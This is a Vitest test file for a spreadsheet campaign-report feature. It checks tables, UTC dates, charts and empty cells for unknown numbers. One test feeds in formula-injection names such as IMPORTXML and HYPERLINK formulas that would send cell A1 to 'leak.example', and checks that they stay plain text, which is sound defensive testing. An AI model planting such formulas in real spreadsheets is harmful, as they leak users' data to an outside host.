import { expect, test } from 'vitest';
import { buildReport, type Report } from '../../../pipeline/report/report.ts';
import { bestPostsTitle } from '../../../pipeline/report/summary/best-posts.ts';
import { summarize } from '../../../pipeline/report/summary/summary.ts';
import { packQuality } from '../../../pipeline/tracking/metrics.ts';
import { item, observed } from '../../pipeline/report/report-data.ts';
import { example } from '../../pipeline/report/report-example.ts';
import type { SpreadsheetFile } from '../harness/file.ts';
import { busyReport } from './busy-report.ts';
import { ask, exampleReport, setUpReport } from './report-workspace.ts';

const setup = setUpReport();

/** Returns the table below the line with this title, including its headings. Blank cells are "". */
function table(file: SpreadsheetFile, sheet: string, title: string): unknown[][] {
  const rows = file.values('A1:AZ150', sheet);
  const start = rows.findIndex(([first]) => first === title);
  const end = rows.findIndex(([first], index) => index > start && first === '');
  return rows.slice(start + 1, end).map((row) => row.slice(0, row.findLastIndex((value) => value !== '') + 1));
}

function rowOf(file: SpreadsheetFile, sheet: string, first: string): number {
  return file.values('A1:A200', sheet).findIndex(([value]) => String(value).startsWith(first)) + 1;
}

async function inserted(report: Report = exampleReport(), name = 'Autumn at sea') {
  const own = await setup.campaign(name);
  await setup.finish(own, report);
  const file = await setup.open(own.live_key);
  const { ok, sheet } = ask(file, 'sidebarInsertReport', own.campaign_id, null);
  expect(ok).toBe(true);
  return { file, sheet };
}

test('a report sheet begins with its name, period, workspace and one sentence, and becomes the active sheet', async () => {
  const { file, sheet } = await inserted();
  expect(sheet).toBe('Autumn at sea report');
  expect(file.world().current.sheet).toBe(sheet);
  expect(file.values('A1:A4', sheet).flat()).toEqual([
    'Autumn at sea',
    'Week from 9 to 15 November 2026 (UTC), final',
    'Workspace: Harbor Agency · Created 2026-11-16 01:05 (UTC)',
    'This week: followers up ≈100,000 (8.3%) to ≈1,300,000, views up 500 (50.0%) to 1,500, likes up 25 (25.0%) to 125.',
  ]);
});

test('the key numbers of a report compare two weeks, and a number that the platform does not show appears as a word, never as 0', async () => {
  const { file, sheet } = await inserted();
  const [, , headings, ...rows] = table(file, sheet, 'Key numbers');
  expect(headings).toEqual([
    ...['Key number', 'This week', 'Previous week', 'Change', 'Change %', 'Previous change', 'Remarks'],
  ]);
  const remarks = '≈ rounded by the platform, 1 of 2 items counted';
  expect(rows[0]).toEqual(['Followers', 1_300_000, 1_200_000, 100_000, 0.0833, 'unknown', remarks]);
  expect(rows).toContainEqual(['Views', 1_500, 1_000, 500, 0.5, 'unknown']);
  const word = 'not shown';
  expect(rows.at(-1)).toEqual(['Following', word, word, word, word, 'unknown', '0 of 2 items counted']);
});

test('the key numbers of a longer campaign show the change of the previous week, added up over platforms', async () => {
  const report = busyReport();
  const { file, sheet } = await inserted(report);
  const [, , , followers] = table(file, sheet, 'Key numbers');
  const weekBefore = report.series
    .filter(({ metric, step }) => metric === 'followers' && step === 'week')
    .reduce((sum, { points }) => sum + Number(points[3]?.value) - Number(points[2]?.value), 0);
  expect(weekBefore).toBeGreaterThan(0);
  expect(followers?.slice(0, 6)).toEqual([
    ...['Followers', report.totals.followers?.end, report.totals.followers?.start],
    ...[report.totals.followers?.change, Number(report.totals.followers?.change_percent) / 100, weekBefore],
  ]);
});

test('a report lists the accounts that gained and lost the most followers and its best posts', async () => {
  const { file, sheet } = await inserted(busyReport());
  const names = (title: string) => table(file, sheet, title).map(([name]) => name);
  expect(names('Accounts that gained the most followers').slice(1)).toEqual([
    ...['Ridge', 'Harbor Coffee', 'Salt Trail Running'],
  ]);
  expect(names('Accounts that lost the most followers').slice(1)).toEqual(['Mira Bakes', 'Quiet Harbour Books']);
  const posts = table(file, sheet, 'Posts with the most new views').slice(2);
  expect(posts.map(([name]) => name)).toEqual([
    ...['Ridge run at dawn', 'How to proof dough', 'Autumn menu in 20 seconds', 'Behind the counter'],
  ]);
  expect(posts[0]?.[1]).toBe('TikTok');
  expect(table(file, sheet, 'Engagement rates')[1]?.slice(0, 4)).toEqual(['TikTok', 0.08, 4, 0]);
});

test('the report sheet and the report page list the best posts in the same order', async () => {
  const observations = ['reef', 'gull', 'kelp', 'dune'].flatMap((name, index) => [
    observed(name, '2026-11-08T10:00:00', { [index < 3 ? 'views' : 'likes']: 1_000 * (index + 1) }),
    observed(name, '2026-11-15T10:00:00', {
      [index < 3 ? 'views' : 'likes']: 1_000 * (index + 1) + Number([7, 90, 7, 5][index]),
    }),
  ]);
  const items = ['reef', 'gull', 'kelp', 'dune'].map((name) => item({ item_id: name, name, kind: 'video' }));
  const report = buildReport({ ...example, items, observations, missed: [] });
  const { file, sheet } = await inserted(report);
  const names = table(file, sheet, bestPostsTitle)
    .slice(2)
    .map(([name]) => name);
  expect(names).toEqual(['gull', 'kelp', 'reef', 'dune']);
  expect(summarize(report).best.map(({ name }) => name)).toEqual(names);
});

test('the report sheet says which posts, rates and changes of the previous week come from rounded numbers', async () => {
  const quality = packQuality({ views: 'rounded' });
  const early = { views: 900, likes: 1, comments: 1, shares: 1, favorites: 1 };
  const observations = [
    observed('reef', '2026-11-01T10:00:00', early),
    ...example.observations.filter(({ item_id }) => item_id === 'reef'),
  ].map((row) => (Number(row.observed_at) < Date.parse('2026-11-08') ? { ...row, quality } : row));
  const campaign = { ...example.campaign, starts_on: '2026-10-26' };
  const { file, sheet } = await inserted(buildReport({ ...example, campaign, observations }));
  const [, , headings = [], ...numbers] = table(file, sheet, 'Key numbers');
  const views = numbers.find(([name]) => name === 'Views') ?? [];
  expect(views[headings.indexOf('Remarks')]).toBe('previous change ≈ rounded by the platform');

  const rounded = observations.map((row) => ({ ...row, quality }));
  const other = await inserted(buildReport({ ...example, campaign, observations: rounded }), 'Rounded');
  const [, posts = [], reef = []] = table(other.file, other.sheet, 'Posts with the most new views');
  expect(reef[posts.indexOf('Remarks')]).toBe('Views ≈ rounded by the platform');
  const [rates = [], tiktok = []] = table(other.file, other.sheet, 'Engagement rates');
  expect(tiktok[rates.indexOf('Remarks')]).toBe('≈ from rounded numbers');
});

test('the accounts of a report leave out handles that now belong to another account', async () => {
  const { file, sheet } = await inserted();
  expect(table(file, sheet, 'Accounts with the most followers').map(([name]) => name)).toEqual(['Account', 'bay']);
});

test('the details of a report have a frozen row of headings in words and one row for each item', async () => {
  const { file } = await inserted();
  const details = 'Autumn at sea details';
  expect(file.sheetState(details).frozen_rows).toBe(1);
  const [headings = [], ...rows] = file.values('A1:AH4', details);
  expect(headings.filter((heading) => /_|^$/.test(String(heading)))).toEqual([]);
  const read = rows.map((row) => Object.fromEntries(headings.map((heading, index) => [heading, row[index]])));
  expect(read.map(({ Name, Platform, Type }) => [Name, Platform, Type])).toEqual([
    ['cove', 'Instagram', 'Account'],
    ['bay', 'TikTok', 'Account'],
    ['reef', 'TikTok', 'Video'],
  ]);
  expect(read[1]).toMatchObject({
    ...{ Followers: 1_300_000, 'Followers change': 100_000, 'Followers change %': 0.0833 },
    ...{
      Following: '',
      Views: '',
      Remarks: 'Followers ≈ rounded by the platform, Following not shown, Likes ≈ rounded by the platform',
    },
  });
  expect(read[2]).toMatchObject({ 'Engagement rate': 0.102, 'Days missing (UTC)': '2026-11-11 to 2026-11-12' });
  expect(read[0]).toMatchObject({ Status: 'The handle now belongs to another account' });
});

test('dates in a report are dates in UTC whatever the zone and locale of the file, and the headings say so', async () => {
  const own = await setup.campaign();
  await setup.finish(own, exampleReport());
  const file = await setup.open(own.live_key);
  file.set({ time_zone: 'America/Los_Angeles', locale: 'de_DE' });
  const { sheet } = ask(file, 'sidebarInsertReport', own.campaign_id, null);
  const first = rowOf(file, sheet, 'Day (UTC)') + 1;
  expect(file.types(`A${first}:A${first + 6}`, sheet).flat()).toEqual(Array(7).fill('date'));
  expect(file.values(`A${first}:A${first + 1}`, sheet)).toEqual([[46_335], [46_336]]);
  expect(file.sheetState(sheet).looks[`A${first}`]).toMatchObject({ number_format: 'yyyy-mm-dd' });
  const details = 'Autumn at sea details';
  const column = file.values('A1:AH1', details)[0]?.indexOf('First check (UTC)') ?? -1;
  expect(file.types('A2:AH2', details)[0]?.[column]).toBe('date');
  expect(file.values('A2:AH2', details)[0]?.[column]).toBeCloseTo(46_334 + 9 / 24, 8);
});

test('a table by day in a report has a gap for a day without a number', async () => {
  const { file, sheet } = await inserted();
  const [, headings = [], ...days] = table(file, sheet, 'Counts at the end of each day');
  expect(headings[1]).toBe('TikTok followers (≈)');
  const views = headings.indexOf('TikTok views');
  expect(days.map((row) => row[views] ?? '')).toEqual([1_100, 1_200, '', '', 1_300, 1_400, 1_500]);
});

test('the notes of a report say what is missing, in lines that fit the page', async () => {
  const { file, sheet } = await inserted();
  const lines = table(file, sheet, 'Notes').map(([line]) => String(line));
  const text = lines.join(' ').replace(/\s+/g, ' ');
  for (const note of exampleReport().notes) expect(text).toContain(note);
  expect(Math.max(...lines.map((line) => line.length))).toBeLessThan(130);
});

const hostile = [
  '=IMPORTXML("http://leak.example/?"&A1,"//a")',
  ...['+49 1234', '-2+3', '@SUM(A1)', "'quoted", '0012', '1/2', 'TRUE', '7234567890123456789', '=1+1\n=2', '<b>'],
];

test('names of a report stay text and never become formulas, numbers or dates', async () => {
  const name = '=HYPERLINK("http://leak.example/?"&A1)';
  const long = `=${'x'.repeat(60_000)}`;
  const [video] = example.items;
  const items = [...hostile, long].map((text, index) => ({
    ...(video ?? expect.unreachable()),
    ...{ item_id: `72057594037927${900 + index}`, name: text, url: `=${text}` },
  }));
  const campaign = { ...example.campaign, name, report_name: '-1' };
  const { file, sheet } = await inserted(buildReport({ ...example, campaign, items, missed: [] }), name);
  expect(sheet).toBe('=HYPERLINK( http leak.example &A1) report');
  const details = '=HYPERLINK( http leak.example &A1) details';
  for (const one of [sheet, details]) {
    const cells = Object.values(file.sheet(one));
    expect(cells.filter(({ formula, type }) => formula !== undefined || type === 'error')).toEqual([]);
  }
  expect(file.values('A1', sheet)).toEqual([['-1']]);
  const rows = file.values(`A2:AZ${items.length + 1}`, details);
  expect(rows.map(([first]) => String(first)).sort()).toEqual([...hostile, long.slice(0, 50_000)].sort());
  const ids = rows.map((row) => row.find((value) => String(value).startsWith('72057594037927')));
  expect(ids.sort()).toEqual(items.map(({ item_id }) => item_id));
});

test('an unknown number in the details of a report is an empty cell, never 0', async () => {
  const campaign = { ...example.campaign, name: 'Autumn at sea' };
  const { file } = await inserted(buildReport({ ...example, campaign, observations: [], missed: [] }));
  const types = file.types('D2:AH4', 'Autumn at sea details').flat();
  expect(types.filter((type) => type === 'number')).toEqual([]);
});

test('each sheet of a report is written at once, whatever its size, and missing rows are added first', async () => {
  const report = exampleReport();
  const [item] = report.items;
  const items = Array.from({ length: 1_200 }, (_, index) => ({ ...(item ?? expect.unreachable()), name: `n${index}` }));
  const { file } = await inserted({ ...report, items });
  expect(file.world().writes).toEqual({ clear: 2, setValues: 2 });
  expect(file.sheetState('Autumn at sea details').rows).toBeGreaterThan(1_200);
});

test('charts of a report show headings and values of their tables and never cover a table', async () => {
  const { file, sheet } = await inserted(busyReport());
  const { charts } = file.sheetState(sheet);
  expect(charts.map(({ type, options }) => [type, options.title])).toEqual([
    ['LINE', 'Followers, at the end of each week'],
    ['LINE', 'Views so far, at the end of each week'],
    ['LINE', 'Likes so far, at the end of each week'],
    ['BAR', 'New views by post'],
    ['BAR', 'Followers by account'],
  ]);
  const headings = charts.map(({ ranges }) =>
    ranges.flatMap(({ a1 }) => file.values(`${a1.split(':')[0]}`, sheet).flat()),
  );
  expect(headings[0]).toEqual(['Week from (UTC)', 'Instagram followers']);
  expect(headings[3]).toEqual(['Post', 'New views']);
  expect(headings[4]).toEqual(['Account', 'Followers']);
  const used = file.values('A1:A200', sheet).flatMap(([cell], index) => (cell === '' ? [] : [index + 1]));
  for (const { anchor, options, headers } of charts) {
    expect(headers).toBe(1);
    const last = anchor.row + Math.ceil(Number(options.height) / 21);
    expect(used.filter((row) => row >= anchor.row && row < last)).toEqual([]);
  }
});
